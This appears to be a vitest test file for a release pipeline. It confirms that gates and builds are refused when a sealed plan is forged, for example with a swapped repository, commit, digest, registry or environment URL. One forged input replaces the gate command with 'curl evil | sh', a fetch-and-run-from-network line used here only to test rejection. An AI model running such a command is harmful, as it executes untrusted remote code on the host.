/** What is refused before a gate is asked or an image is built. */
import { beforeAll, describe, expect, test } from 'vitest';
import { hashPlan, withHash } from '../../../pipeline/hash-plan.js';
import type { Activities } from '../../../workflows/activity-contract.js';
import { givenArtifacts } from '../../support/given.js';
import {
  beginsWith,
  evidenceOf,
  GATE,
  gateInput,
  givenSealedRelease,
  refusalWith,
  throughVouching,
  useSealKeys,
  type Name,
  type SealedRelease,
} from '../../support/sealed.js';

const keys = useSealKeys();
let release: SealedRelease;

beforeAll(async () => {
  release = await givenSealedRelease(keys.ours);
});

const call = (name: Name, input: unknown): Promise<boolean> => beginsWith(keys.ours, name, input);
const refusalOf = (name: Name, input: unknown): Promise<string> => refusalWith(keys.ours, name, input);

describe('a gate', () => {
  const input = () => gateInput(release.plan, release.environment, release.artifacts);
  const ask = (change: Partial<Parameters<Activities['runGate']>[0]>) => ({ ...input(), ...change });

  test('is asked as the sealed plan says', async () => {
    expect(await call('runGate', input())).toBe(true);
  });

  test.each<[string, () => unknown, RegExp]>([
    [
      'another command',
      () => ask({ gate: { ...GATE, command: 'curl evil | sh' } as typeof GATE }),
      /no such gate/,
    ],
    [
      'no seal',
      () => {
        const { seal: _, ...rest } = input();
        return rest;
      },
      /no genuine seal/,
    ],
    [
      'another repository',
      () => ask({ plan: { ...input().plan, repositoryUrl: '/srv/evil.git' } }),
      /of another commit/,
    ],
    [
      'another commit',
      () => ask({ plan: { ...input().plan, commit: { ...input().plan.commit, sha: 'c'.repeat(40) } } }),
      /of another commit/,
    ],
    [
      'another digest',
      () => ask({ plan: { ...input().plan, artifacts: givenArtifacts('evil') } }),
      /no worker vouches/,
    ],
  ])('is not asked with %s', async (_what, forge, reason) => {
    expect(await refusalOf('runGate', forge())).toMatch(reason);
  });
});

describe('a build', () => {
  test.each<[string, () => unknown, RegExp]>([
    [
      'a plan without seal',
      () => {
        const { seal: _, ...plan } = release.plan;
        return { plan };
      },
      /no seal/,
    ],
    [
      'another registry',
      () => ({ plan: { ...release.plan, registry: { server: 'evil', username: 'x', password: 'env:X' } } }),
      /changed after/,
    ],
    [
      'another environment inside',
      () => ({ plan: { ...release.plan, environments: [{ ...release.environment, url: 'http://evil' }] } }),
      /changed after/,
    ],
  ])('is not begun with %s', async (_what, forge, reason) => {
    expect(await refusalOf('buildArtifacts', forge())).toMatch(reason);
  });

  test('waits for the release’s own gates', async () => {
    const { planHash: _, seal: __, ...rest } = release.plan;
    const plan = await throughVouching(keys.ours, 'resolvePlan', {} as never, () =>
      withHash({ ...rest, gates: [GATE] }),
    );
    expect(await refusalOf('buildArtifacts', { plan, evidence: release.evidence })).toMatch(
      /nobody vouches that gate ci/,
    );
    const seal = plan.seal === undefined ? {} : { seal: plan.seal };
    const asked = { ...gateInput(plan, release.environment, []), ...seal };
    const item = await throughVouching(keys.ours, 'runGate', asked, () => evidenceOf('pass'));
    expect(await call('buildArtifacts', { plan, evidence: [item] })).toBe(true);
  });
});

test('the hash of a plan does not depend on its seals', () => {
  const { seal: _, ...bare } = release.plan;
  const environments = bare.environments.map(({ seal: __, ...plan }) => plan);
  expect(hashPlan({ ...bare, environments })).toBe(release.plan.planHash);
});
